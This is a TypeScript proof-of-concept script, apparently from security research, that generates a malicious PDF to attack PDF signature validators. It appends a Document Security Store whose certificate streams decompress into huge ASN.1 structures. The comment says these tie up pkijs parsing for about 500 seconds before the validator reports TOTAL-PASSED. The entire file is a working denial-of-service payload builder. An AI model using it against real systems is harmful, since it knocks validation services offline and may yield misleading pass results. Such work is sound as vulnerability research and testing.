// Denial of service: a DSS whose /Certs streams each inflate to ~400 KB of DER with ~199,000 ASN.1 values (a
// SEQUENCE of NULLs, one INTEGER making each distinct). Each costs ~0.5 s in certificateFromDer before pkijs
// finds it is no certificate; maxValidationDataItems (1,000) and maxAsn1Nodes (200,000) bound it only at
// ~500 s. A DSS is LTV, so the verdict is TOTAL-PASSED after that.
import { writeFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { appendRevision, SAMPLE } from "./lib.js";

const CATALOG =
  "<< /AcroForm 25 0 R /Extensions << /ESIC << /BaseVersion /1.7 /ExtensionLevel 2 >> >> /Names << /EmbeddedFiles 24 0 R >> /Pages 1 0 R /Perms << /DocMDP 22 0 R >> /Type /Catalog /DSS 26 0 R >>";

function heavyDer(i: number, nulls = 198_990): Buffer {
  const inner = Buffer.alloc(nulls * 2);
  for (let k = 0; k < nulls; k++) inner[k * 2] = 0x05;
  const id = Buffer.from([0x02, 0x04, (i >> 24) & 255, (i >> 16) & 255, (i >> 8) & 255, i & 255]);
  const body = Buffer.concat([id, inner]);
  const len = (n: number) => Buffer.from([0x83, n >> 16, (n >> 8) & 255, n & 255]);
  const seq = (b: Buffer) => Buffer.concat([Buffer.from([0x30]), len(b.length), b]);
  return seq(seq(body));
}

export function buildDssCertsDos(count: number): Uint8Array {
  const objects = [];
  const refs: string[] = [];
  for (let i = 0; i < count; i++) {
    objects.push({ num: 27 + i, body: "<< /Filter /FlateDecode >>", stream: deflateSync(heavyDer(i), { level: 9 }) });
    refs.push(`${27 + i} 0 R`);
  }
  objects.push({ num: 26, body: `<< /Type /DSS /Certs [${refs.join(" ")}] >>` });
  objects.push({ num: 2, body: CATALOG });
  return appendRevision(SAMPLE, { objects, trailer: "/Root 2 0 R /Info 3 0 R", size: 27 + count });
}

if (process.argv[2]) {
  const b = buildDssCertsDos(Number(process.argv[2]));
  writeFileSync(process.argv[3] ?? "/tmp/dss.pdf", b);
  console.log(b.length);
}
